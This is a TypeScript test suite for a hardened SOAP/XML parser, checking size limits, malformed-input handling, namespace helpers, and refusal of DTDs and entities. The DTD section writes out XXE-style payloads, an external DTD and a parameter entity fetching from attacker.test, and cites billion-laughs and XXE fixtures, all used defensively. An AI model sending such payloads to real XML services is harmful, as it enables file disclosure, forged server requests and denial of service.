import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import {
  XmlError,
  attrByLocalName,
  childElements,
  elementsByLocalName,
  firstByLocalName,
  parseXml,
  text,
} from '../../src/soap/xml.js';
import { parseDiscoverRequest } from '../../src/soap/discovery.js';
import { parseEnrollmentEnvelope } from '../../src/soap/envelope.js';

const fixture = (name: string) => readFileSync(new URL(`../fixtures/soap/${name}`, import.meta.url), 'utf8');

function codeOf(fn: () => unknown): string {
  try {
    fn();
  } catch (err) {
    expect(err).toBeInstanceOf(XmlError);
    return (err as XmlError).code;
  }
  throw new Error('expected an XmlError');
}

describe('parseXml refuses DTDs and entities before parsing', () => {
  const cases: Array<[string, string]> = [
    ['XXE fixture', fixture('hostile-xxe.xml')],
    ['billion laughs fixture (lower-case doctype)', fixture('hostile-billion-laughs.xml')],
    ['bare DOCTYPE', '<!DOCTYPE a><a/>'],
    ['mixed-case DocType', '<!DocType a><a/>'],
    ['external DTD', '<!DOCTYPE a SYSTEM "http://attacker.test/x.dtd"><a/>'],
    ['parameter entity', '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://attacker.test/p">%p;]><a/>'],
    ['ENTITY inside a comment', '<a><!-- <!ENTITY x "y"> --></a>'],
    ['ENTITY inside CDATA', '<a><![CDATA[<!ENTITY x "y">]]></a>'],
  ];
  it.each(cases)('%s -> dtd_refused', (_name, xml) => {
    expect(codeOf(() => parseXml(xml))).toBe('dtd_refused');
  });

  it('the higher-level parsers surface the same code', () => {
    expect(codeOf(() => parseDiscoverRequest(fixture('hostile-xxe.xml')))).toBe('dtd_refused');
    expect(codeOf(() => parseEnrollmentEnvelope(fixture('hostile-billion-laughs.xml')))).toBe('dtd_refused');
  });
});

describe('parseXml size limit', () => {
  it('refuses more than 256 KiB by default', () => {
    const big = `<a>${'x'.repeat(256 * 1024)}</a>`;
    expect(codeOf(() => parseXml(big))).toBe('too_large');
  });

  it('counts UTF-8 bytes, not characters', () => {
    const body = 'é'.repeat(600); // 1200 bytes, 600 chars
    expect(codeOf(() => parseXml(`<a>${body}</a>`, { maxBytes: 1000 }))).toBe('too_large');
    expect(parseXml(`<a>${body}</a>`, { maxBytes: 2000 }).documentElement?.localName).toBe('a');
  });

  it('checks size before anything else', () => {
    expect(codeOf(() => parseXml(`<!DOCTYPE a><a>${'x'.repeat(100)}</a>`, { maxBytes: 50 }))).toBe('too_large');
  });

  it('accepts exactly the limit', () => {
    const xml = `<a>${'x'.repeat(93)}</a>`; // 100 bytes
    expect(parseXml(xml, { maxBytes: 100 }).documentElement?.localName).toBe('a');
  });
});

describe('parseXml malformed input', () => {
  const discover = fixture('discover-v5.xml');
  const cases: Array<[string, string]> = [
    ['empty', ''],
    ['only whitespace', '   \n'],
    ['plain text', 'hello world'],
    ['JSON', '{"EmailAddress":"a@b.test"}'],
    ['truncated envelope', discover.slice(0, Math.floor(discover.length / 2))],
    ['mismatched tags', '<a><b></a></b>'],
    ['unknown entity', '<a>&nbsp;</a>'],
    ['unbound prefix', '<wsse:Security/>'],
    ['two roots', '<a/><b/>'],
    ['trailing junk', '<a/>junk'],
    ['duplicate attribute', '<a x="1" x="2"/>'],
    ['processing instruction', '<?xml version="1.0"?><?xml-stylesheet href="x"?><a/>'],
    ['processing instruction inside', '<a><?php echo 1; ?></a>'],
    ['declaration not first', ' <?xml version="1.0"?><a/>'],
    ['U+FFFD (xmldom warns: broken source encoding)', '<a>caf\ufffd</a>'],
  ];
  it.each(cases)('%s -> malformed', (_name, xml) => {
    expect(codeOf(() => parseXml(xml))).toBe('malformed');
  });

  it('never throws anything but XmlError, even for non-strings', () => {
    expect(codeOf(() => parseXml(undefined as unknown as string))).toBe('malformed');
    expect(codeOf(() => parseXml(42 as unknown as string))).toBe('malformed');
  });

  it('accepts an XML declaration, a BOM, comments, CDATA and character references', () => {
    const doc = parseXml('\uFEFF<?xml version="1.0" encoding="utf-8"?><!-- hi --><a><![CDATA[<x>]]>&#x41;&amp;</a>');
    expect(text(doc.documentElement!)).toBe('<x>A&');
  });

  it('survives deep nesting when a caller raises the depth limit', () => {
    const depth = 20_000;
    const doc = parseXml('<a>'.repeat(depth) + 'deep' + '</a>'.repeat(depth), { maxDepth: depth });
    expect(elementsByLocalName(doc, 'a')).toHaveLength(depth);
  });
});

describe('local-name helpers', () => {
  const doc = parseXml(
    '<r xmlns:p="urn:p" xmlns:q="urn:q"><p:item q:Kind="prefixed" Kind="plain"> one </p:item>' +
      '<item xmlns="urn:other" q:Kind="only-prefixed"><item>two</item></item><!-- c --></r>',
  );
  const root = doc.documentElement!;

  it('finds descendants regardless of prefix or namespace, in document order', () => {
    expect(elementsByLocalName(root, 'item').map((e) => text(e))).toEqual(['one', 'two', 'two']);
    expect(elementsByLocalName(root, 'r')).toEqual([]); // descendants only
    expect(firstByLocalName(doc, 'r')).toBe(root);
    expect(firstByLocalName(root, 'missing')).toBeNull();
  });

  it('lists only element children', () => {
    expect(childElements(root).map((e) => e.localName)).toEqual(['item', 'item']);
  });

  it('matches attributes by local name, unprefixed first', () => {
    const [first, second] = childElements(root);
    expect(attrByLocalName(first!, 'Kind')).toBe('plain');
    expect(attrByLocalName(second!, 'Kind')).toBe('only-prefixed');
    expect(attrByLocalName(second!, 'xmlns')).toBeNull();
    expect(attrByLocalName(second!, 'Absent')).toBeNull();
  });
});
